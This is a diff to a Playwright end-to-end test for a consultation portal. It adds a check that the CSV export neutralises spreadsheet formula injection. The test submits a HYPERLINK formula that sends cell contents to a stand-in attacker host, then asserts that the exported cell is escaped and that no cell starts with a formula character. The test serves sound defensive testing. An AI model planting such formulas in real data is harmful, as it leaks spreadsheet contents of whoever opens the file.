@@ -1,4 +1,5 @@
 import { expect, test } from "@playwright/test";
+import { parse } from "csv-parse/sync";
 import { expectNoSeriousA11yViolations } from "./support/axe";
 import { login, newPage } from "./support/login";
 
@@ -15,7 +16,7 @@ const local = (offsetHours: number) => {
   return parts.replace(" ", "T");
 };
 
-test("an officer creates a closed consultation, invites two providers and publishes; an uninvited provider gets a 404", async ({
+test("an officer publishes a closed consultation for two invited providers; an uninvited one gets a 404", async ({
   page,
   browser,
 }) => {
@@ -111,14 +112,14 @@ test("an officer creates a closed consultation, invites two providers and publis
   await expect(providerA.getByText(/Ontvangen: uw reactie is ingediend op/)).toBeVisible();
   await expectNoSeriousA11yViolations(providerA);
 
-  // Provider B answers too, then reads A's answers, never the sensitive one.
+  // Provider B answers too (with a formula that must not run in the officer's spreadsheet), then reads
+  // A's answers, never the sensitive one.
+  const formula = '=HYPERLINK("https://aanval.example/?d="&A1,"Betere samenwerking met de huisarts.")';
   const providerB = await newPage(browser);
   await login(providerB, "aanbieder@wijkzorg-waterland.nl");
   await providerB.goto(page.url().replace("/beheer", "").replace(/\?.*$/, ""));
   await expect(providerB.getByRole("heading", { name: "Reacties van andere deelnemers" })).toHaveCount(0);
-  await providerB
-    .getByRole("textbox", { name: "Wat is nodig om wachttijden te verkorten?" })
-    .fill("Betere samenwerking met de huisarts.");
+  await providerB.getByRole("textbox", { name: "Wat is nodig om wachttijden te verkorten?" }).fill(formula);
   await providerB.getByRole("button", { name: "Indienen" }).click();
   await expect(providerB.getByText(/Ontvangen: uw reactie is ingediend op/)).toBeVisible();
   await providerB.reload();
@@ -154,6 +155,9 @@ test("an officer creates a closed consultation, invites two providers and publis
   const csv = await page.request.get(`${new URL(page.url()).pathname.replace("/reacties", "")}/export?formaat=csv`);
   expect(csv.headers()["content-type"]).toContain("text/csv");
   expect(await csv.text()).toContain(`[CONCURRENTIEGEVOELIG] Meer behandelaars. ${secret}`);
+  const cells = parse(await csv.text(), { delimiter: ";", bom: true, relax_column_count: true }).flat();
+  expect(cells).toContain(`'${formula}`);
+  for (const cell of cells) expect(cell).not.toMatch(/^\s*[=+\-@]/);
   const xlsx = await page.request.get(`${new URL(page.url()).pathname.replace("/reacties", "")}/export?formaat=xlsx`);
   expect(xlsx.headers()["content-type"]).toContain("spreadsheetml");
   expect(
